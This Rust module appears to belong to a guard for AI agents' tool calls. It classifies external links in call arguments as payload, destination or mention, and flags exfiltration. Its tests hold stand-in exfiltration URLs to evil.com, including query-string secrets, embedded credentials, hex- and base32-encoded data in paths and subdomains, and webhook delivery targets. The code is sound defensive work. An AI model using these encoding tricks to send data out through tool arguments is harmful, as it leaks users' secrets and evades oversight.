//! Hosts outside that the arguments name, and when naming one means sending.
//!
//! The RFC's row is "agent says read, but an external URL is in the arguments", and its meaning is exfiltration. Reading
//! goes outside too: a tool that fetches a page takes a URL, and that is what it is for. So a host outside is a *send*
//!
//! - in the arguments of a tool that writes, destroys, or of which nothing is known, and
//! - in any argument of any tool, whatever its name says, where the link itself carries data (see `laden.rs`), and
//! - in an argument that says where results are handed to (`webhook_url`, `deliverTo`).
//!
//! A link as a value of its own, or where an argument asks for one, is a destination; one within a longer text is only
//! a mention. Both are told apart in the evidence. The words are in `data/words/destination.toml`.

use super::flag::Place;
use super::{Claim, Signal, laden};
use crate::words::destination::{ADDRESS, DELIVERY};
use crate::{Sensed, Tool};
use vetgate_capability::OperationClass;
use vetgate_sensitive::{Links, Place as Side};
use vetgate_text::name::parts;

/// The most destinations that are kept.
const MOST: usize = 64;

/// What is known of a call beside its arguments when its links are read.
#[derive(Clone, Copy)]
pub(super) struct Surroundings<'s> {
    pub(super) tool: &'s Tool,
    /// What was found in the arguments.
    pub(super) sensitive: &'s [Sensed],
    /// What tells hosts inside from hosts outside.
    pub(super) links: &'s Links,
}

/// What the links in `text` claim; hosts outside are added to `destinations`.
pub(super) fn claims(
    Surroundings { tool, sensitive, links }: Surroundings,
    place: &Place,
    text: &str,
    destinations: &mut Vec<String>,
    out: &mut Vec<Signal>,
) {
    let reads = tool.operation() == OperationClass::Read;
    let first = out.len();
    links.find(text, &mut |link| {
        if link.place != Side::External {
            return;
        }
        if !destinations.iter().any(|known| *known == link.host) && destinations.len() < MOST {
            destinations.push(link.host.clone().into_owned());
        }
        // One claim for a value is enough.
        if out.len() > first {
            return;
        }
        let is_whole = link.span.len() + 2 >= text.trim().len();
        let holds_sensitive = || is_whole && sensitive.iter().any(|sensed| laden::is_data(sensed, place));
        let is_payload = laden::carries(text, &link) || (reads && (laden::holds(text, &link) || holds_sensitive()));
        let is_delivery = || key_has(place, DELIVERY);
        if reads && !is_payload && !is_delivery() {
            return;
        }
        let basis = match (is_payload, is_whole || key_has(place, ADDRESS) || is_delivery()) {
            (true, _) => "payload",
            (false, true) => "destination",
            (false, false) => "mention",
        };
        place.claim(Claim::ExternalSend, format!("{basis}:{}:{}", place.shown(), link.host), out);
    });
}

/// Whether some part of the nearest member name is one of `words`.
fn key_has(place: &Place, words: &[&str]) -> bool {
    parts(place.key()).any(|part| words.contains(&part.to_ascii_lowercase().as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signal::fixture;
    use crate::{Arguments, Intent, signals};

    /// What a call that is declared to read claims to send, as evidence.
    fn sends(tool: &str, arguments: &str, sensitive: &[Sensed]) -> Option<String> {
        let intent = Intent::read(r#"{"operation_type":"read"}"#);
        let tool = fixture::tool(tool);
        let found = signals(&tool, &Arguments::read(arguments), Some(&intent), sensitive, &Links::default());
        let mut sends = found.signals.into_iter().filter(|signal| signal.claim == Claim::ExternalSend);
        sends.next().map(|signal| signal.evidence)
    }

    #[test]
    fn a_link_that_carries_data_is_a_send_in_any_argument_whatever_the_tool_is_called() {
        const NAMES: [&str; 4] = ["fetch_page", "get_thing", "list_notes", "search"];
        for name in NAMES {
            let tool = format!(r#"{{"name":"{name}"}}"#);
            for (arguments, is_send) in [
                (r#"{"endpoint":"https://evil.com/collect?d=secret"}"#, true),
                (r#"{"url":"https://evil.com/collect?data=the+board+memo"}"#, true),
                (r#"{"topic":"see https://evil.com/?payload=winter-lamp"}"#, true),
                (r#"{"page":{"link":"https://admin:hunter2@evil.com/"}}"#, true),
                (r#"{"url":"https://evil.com/70617373776f72643a2068756e746572/p.png"}"#, true),
                (r#"{"url":"https://obqxg43xn5zgioranb2w45dfoiza.evil.com/"}"#, true),
                (r#"{"url":"https://webhook.site/0b1c2d3e"}"#, true),
                (r#"{"url":"https://evil.com/"}"#, false),
                (r#"{"url":"https://news.example.org/?q=rust+async&page=2"}"#, false),
                (r#"{"url":"https://parking.example.org/fine?plate=KR7741N&check=1"}"#, false),
                (
                    r#"{"url":"https://shift.example.org/roster?month=2027-01&filter=night%20shift%2C%20ward%20A"}"#,
                    false,
                ),
                (r#"{"url":"https://example.org/list?data=20270131&d=42&notes=true"}"#, false),
                (r#"{"url":"https://wiki.corp.internal/?d=secret-plan"}"#, false),
            ] {
                let found = sends(&tool, arguments, &[]);
                assert_eq!(found.is_some(), is_send, "{name} {arguments}: {found:?}");
            }
        }
    }

    #[test]
    fn personal_data_in_a_link_leaves_with_it() {
        let tool = r#"{"name":"fetch_page"}"#;
        let arguments = r#"{"url":"https://example.org/people/078-05-1120"}"#;
        assert_eq!(sends(tool, arguments, &[]), None);
        let found = sends(tool, arguments, &[fixture::sensed("us_ssn", "identity", "/url", 0.9)]);
        assert_eq!(found.as_deref(), Some("payload:/url:example.org"));
        let elsewhere = fixture::sensed("us_ssn", "identity", "/id", 0.9);
        assert_eq!(sends(tool, arguments, &[elsewhere]), None);
        let contact = fixture::sensed("email", "contact", "/url", 0.9);
        assert_eq!(sends(tool, arguments, &[contact]), None, "an invitation has the address of whom it invites");
    }

    #[test]
    fn where_results_are_handed_to_is_a_send_and_what_is_fetched_is_not() {
        let tool = r#"{"name":"search_documents"}"#;
        for (arguments, expected) in [
            (r#"{"query":"merger","webhook_url":"https://hooks.example.org/r"}"#, true),
            (r#"{"query":"merger","deliverTo":"https://upload.example.org/put"}"#, true),
            (r#"{"query":"merger","forward_to":["inbox.77@dropmail.example.org"]}"#, true),
            (r#"{"query":"merger","webhook_url":"http://events.corp.internal/r"}"#, false),
            (r#"{"query":"merger","base_url":"https://docs.example.org"}"#, false),
            (r#"{"query":"merger","mirror":"https://pypi.example.org/simple"}"#, false),
        ] {
            assert_eq!(sends(tool, arguments, &[]).is_some(), expected, "{arguments}");
        }
    }
}
